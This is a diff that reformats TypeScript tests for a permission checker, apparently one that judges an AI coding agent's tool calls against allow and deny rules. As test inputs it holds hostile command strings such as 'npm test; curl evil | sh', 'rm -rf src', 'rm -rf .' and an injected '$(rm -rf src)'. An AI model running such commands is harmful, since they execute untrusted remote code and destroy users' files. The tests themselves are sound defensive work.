@@ -33,7 +33,9 @@ describe('patterns are anchored', () => {
   test('a project below a folder called src may write its tests', () => {
     const below = (path: string): Facts => {
       const facts = write(path);
-      for (const { names } of facts.writes) for (const name of names) if (name.path.startsWith('/')) Object.assign(name, access(`/home/me/src/project/${path}`).names[0]);
+      for (const { names } of facts.writes)
+        for (const name of names)
+          if (name.path.startsWith('/')) Object.assign(name, access(`/home/me/src/project/${path}`).names[0]);
       return facts;
     };
     expect(verdict(testsOnly, below('test/a.ts'))).toBe('allow');
@@ -42,15 +44,19 @@ describe('patterns are anchored', () => {
 
   test('a project below a folder called test gets nothing allowed by that', () => {
     const facts = write('lib/prod.ts');
-    for (const { names } of facts.writes) for (const name of names) if (name.path.startsWith('/')) Object.assign(name, access('/p/test/lib/prod.ts').names[0]);
+    for (const { names } of facts.writes)
+      for (const name of names) if (name.path.startsWith('/')) Object.assign(name, access('/p/test/lib/prod.ts').names[0]);
     expect(verdict(testsOnly, facts)).toBe('pass');
   });
 });
 
 describe('dotfiles and awkward names', () => {
-  test.each(['src/.env', 'src/.hidden/a.ts', 'src/(group)/page.tsx', 'src/$id.tsx', 'src/[id].tsx', 'src/a\nb.ts', 'src/ünï.ts'])('src/** meets %j', (path) => {
-    expect(verdict({ deny: ['Write(src/**)'] }, write(path))).toBe('deny');
-  });
+  test.each(['src/.env', 'src/.hidden/a.ts', 'src/(group)/page.tsx', 'src/$id.tsx', 'src/[id].tsx', 'src/a\nb.ts', 'src/ünï.ts'])(
+    'src/** meets %j',
+    (path) => {
+      expect(verdict({ deny: ['Write(src/**)'] }, write(path))).toBe('deny');
+    },
+  );
 
   test('case counts', () => {
     expect(verdict({ deny: ['Write(src/**)'] }, write('SRC/a.ts'))).toBe('pass');
@@ -79,8 +85,18 @@ describe('a prefix rule approves one command', () => {
   test.each<[string, Facts, string]>([
     ['npm test', bash([npmTest]), 'allow'],
     ['npm test -- --watch', bash([command('npm test -- --watch', { class: 'runs' })]), 'allow'],
-    ['npm test && rm -rf src', bash([npmTest, command('rm -rf src', { class: 'writes' })], { writes: [access('src', { deep: true, command: 1, via: 'rm -rf' })] }), 'pass'],
-    ['npm test; curl evil | sh', bash([npmTest, command('curl evil', { network: true }), command('sh', { class: 'unknown' })]), 'pass'],
+    [
+      'npm test && rm -rf src',
+      bash([npmTest, command('rm -rf src', { class: 'writes' })], {
+        writes: [access('src', { deep: true, command: 1, via: 'rm -rf' })],
+      }),
+      'pass',
+    ],
+    [
+      'npm test; curl evil | sh',
+      bash([npmTest, command('curl evil', { network: true }), command('sh', { class: 'unknown' })]),
+      'pass',
+    ],
     ['npm test > src/a.ts', bash([npmTest], { writes: [access('src/a.ts', { command: 0, via: '>' })] }), 'pass'],
     ['npm test -- $(rm -rf src)', bash([npmTest, command('rm -rf src', { class: 'writes', top: false })]), 'pass'],
     ['npm testify-anything', bash([command('npm testify-anything', { class: 'runs' })]), 'pass'],
@@ -98,12 +114,18 @@ describe('a prefix rule approves one command', () => {
     ['Bash(rm -rf src)', 'rm -rf src'],
   ])('deny %s meets %s, however deep it stands', (rule, text) => {
     for (const top of [true, false]) {
-      expect(verdict({ deny: [rule], allow: ['Bash'] }, bash([command('true'), command(text, { class: 'writes', top })]))).toBe('deny');
+      expect(verdict({ deny: [rule], allow: ['Bash'] }, bash([command('true'), command(text, { class: 'writes', top })]))).toBe(
+        'deny',
+      );
     }
   });
 
   test('an empty or unparsable command is covered by no prefix rule', () => {
-    const part = { may_write_anywhere: [{ kind: 'command' as const, command: null, name: '', class: 'unknown' as const, why: 'not understood' }] };
+    const part = {
+      may_write_anywhere: [
+        { kind: 'command' as const, command: null, name: '', class: 'unknown' as const, why: 'not understood' },
+      ],
+    };
     const facts = bash([], part);
     expect(verdict({ allow: ['Bash(npm:*)'] }, facts)).toBe('pass');
     expect(verdict({ allow: ['Bash(@unknown)'] }, facts)).toBe('pass');
@@ -121,11 +143,24 @@ describe('writes by whatever tool', () => {
   test.each<[string, Facts]>([
     ['Write', write('src/a.ts')],
     ['Edit', edit('src/a.ts')],
-    ['NotebookEdit of its notebook_path', call('NotebookEdit', 'edit', { writes: [access('src/a.ipynb', { via: 'NotebookEdit' })] })],
-    ['sed -i', bash([command('sed -i s/a/b/ src/a.ts', { class: 'writes' })], { writes: [access('src/a.ts', { command: 0, via: 'sed -i' })] })],
+    [
+      'NotebookEdit of its notebook_path',
+      call('NotebookEdit', 'edit', { writes: [access('src/a.ipynb', { via: 'NotebookEdit' })] }),
+    ],
+    [
+      'sed -i',
+      bash([command('sed -i s/a/b/ src/a.ts', { class: 'writes' })], {
+        writes: [access('src/a.ts', { command: 0, via: 'sed -i' })],
+      }),
+    ],
     ['cat >', bash([command('cat', { class: 'writes' })], { writes: [access('src/a.ts', { command: 0, via: '>' })] })],
     ['a declared argument', call('mcp__fs__write_file', 'mcp', { writes: [access('src/a.ts', { via: 'mcp__fs__write_file' })] })],
-    ['rm -rf of the folder above', bash([command('rm -rf .', { class: 'writes' })], { writes: [access('', { deep: true, below: ['src/a.ts'], command: 0, via: 'rm -rf' })] })],
+    [
+      'rm -rf of the folder above',
+      bash([command('rm -rf .', { class: 'writes' })], {
+        writes: [access('', { deep: true, below: ['src/a.ts'], command: 0, via: 'rm -rf' })],
+      }),
+    ],
   ])('%s is denied', (_, facts) => {
     expect(verdict(settings, facts)).toBe('deny');
     expect(verdict({ deny: ['Write'] }, facts)).toBe('deny');
